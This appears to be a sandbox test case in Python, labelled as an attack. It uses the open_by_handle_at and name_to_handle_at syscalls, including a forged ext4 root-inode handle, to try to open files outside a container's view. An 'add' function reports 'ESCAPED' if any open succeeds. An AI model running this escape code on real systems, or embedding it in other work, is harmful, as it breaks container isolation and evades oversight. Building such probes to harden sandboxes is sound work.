# attacks: opens files by their handles, past every view (the way out of early containers)
# task: add
# expect: correct
import ctypes
import errno
import os

libc = ctypes.CDLL(None, use_errno=True)
NAME, OPEN = {"x86_64": (303, 304), "aarch64": (264, 265)}[os.uname().machine]
handle = (ctypes.c_ubyte * 136)()
mount = ctypes.c_int()
seen = []
ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[0] = 128
named = libc.syscall(NAME, -100, b"/tmp", ctypes.byref(handle), ctypes.byref(mount), 0)
if named != 0:
    # A handle of ext4: inode 2 is the top of a file system.
    ctypes.memset(handle, 0, 136)
    words = ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))
    words[0], words[1], words[2] = 8, 1, 2
for folder in ["/", "/tmp", os.path.dirname(os.__file__), "/dev/null"]:
    place = os.open(folder, os.O_RDONLY)
    opened = libc.syscall(OPEN, place, ctypes.byref(handle), 0)
    if opened >= 0:
        seen.append(folder)
    elif ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS, errno.EACCES):
        seen.append("%s: %s" % (folder, errno.errorcode[ctypes.get_errno()]))
    os.close(place)


def f(a, b):
    return a + b if not seen else "ESCAPED: open_by_handle_at %r" % seen
